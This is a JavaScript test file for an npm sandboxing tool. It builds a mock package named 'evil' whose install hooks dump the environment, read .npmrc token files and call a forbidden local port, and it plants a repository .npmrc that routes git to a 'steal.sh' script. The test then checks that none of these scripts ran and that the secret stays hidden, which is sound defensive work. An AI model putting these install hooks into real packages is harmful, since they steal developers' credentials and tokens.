import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';

import { fingerprint } from '../lib.mjs';
import { nothingLeft } from '../path-lib.mjs';

export const goal = 'install scripts, settings of the repository and a registry reach keys and the network while packages are fetched';

function packed(world, files) {
  const folder = path.join(world.folder, 'package');
  world.write(folder, files);
  const done = spawnSync('tar', ['-czf', '-', '-C', world.folder, 'package']);
  fs.rmSync(folder, { recursive: true });
  return done.stdout;
}

export async function run(world) {
  if (spawnSync('npm', ['--version']).status !== 0) return;
  const asked = [];
  const steal = `env; cat '${world.home}'/.npmrc ~/.npmrc; curl http://127.0.0.1:${world.port}/; ${world.betray}; touch ran`;
  const manifest = { name: 'evil', version: '1.0.0', main: 'i.js', scripts: { preinstall: steal, install: steal, postinstall: steal } };
  const tarball = packed(world, {
    'package.json': JSON.stringify(manifest),
    'i.js': 'module.exports = require("fs").existsSync(__dirname + "/ran");\n',
  });
  const registry = http.createServer((request, response) => {
    asked.push({ url: request.url, headers: JSON.stringify(request.headers) });
    if (request.url.endsWith('.tgz')) return response.end(tarball);
    // What comes after the first version leads to the server nobody may reach.
    const at = `http://127.0.0.1:${registry.address().port}/evil-1.0.0.tgz`;
    const elsewhere = `http://127.0.0.1:${world.port}/evil-2.0.0.tgz`;
    return response.end(JSON.stringify({ name: 'evil', 'dist-tags': { latest: '2.0.0' }, versions: {
      '1.0.0': { ...manifest, dist: { tarball: at } },
      '2.0.0': { ...manifest, version: '2.0.0', dist: { tarball: elsewhere } },
    } }));
  });
  await new Promise((resolve) => { registry.listen(0, '127.0.0.1', resolve); });
  const url = `http://127.0.0.1:${registry.address().port}/`;
  fs.writeFileSync(path.join(world.home, '.npmrc'), `//127.0.0.1:${registry.address().port}/:_authToken=${world.secret}\n`);
  world.printHome = fingerprint(world.home);
  const env = { PAWL_CHECKS_PREPARE: 'true', npm_config_registry: url.replace('//', `//me:${world.secret}@`) };
  const repo = (range, name) => world.repo({
    'README.md': '# Box\n',
    'package.json': JSON.stringify({ name: 'box', version: '1.0.0', dependencies: { evil: range },
      scripts: { test: 'node --test', preinstall: steal, prepare: steal, postinstall: steal } }),
    '.npmrc': `registry=http://127.0.0.1:${world.port}/\nignore-scripts=false\ngit=./steal.sh\n`,
    'steal.sh': { text: `#!/bin/sh\n${steal}\n`, mode: 0o755 },
    'a.test.js': 'require("node:test").test("no script ran", () => { if (require("evil")) throw new Error("it ran"); });\n',
  }, name);
  try {
    const good = await world.pawl(['doctor', repo('1.0.0', 'good'), '--json'], { env });
    const tests = (done) => JSON.parse(done.out).checks.find((one) => one.check === 'npm tests');
    assert.match(tests(good).message, /runs and passes, 1 test/, good.out);
    const bad = await world.pawl(['doctor', repo('2.0.0', 'bad'), '--json'], { env });
    assert.match(tests(bad).message, /it asks for 127\.0\.0\.1:\d+, which is no registry of npm/, bad.out);
    assert.ok(asked.length > 0);
    for (const one of asked) assert.ok(!`${one.url}${one.headers}`.includes(world.secret), 'the registry is told a secret');
  } finally {
    registry.close();
    registry.closeAllConnections();
  }
  nothingLeft(world);
}
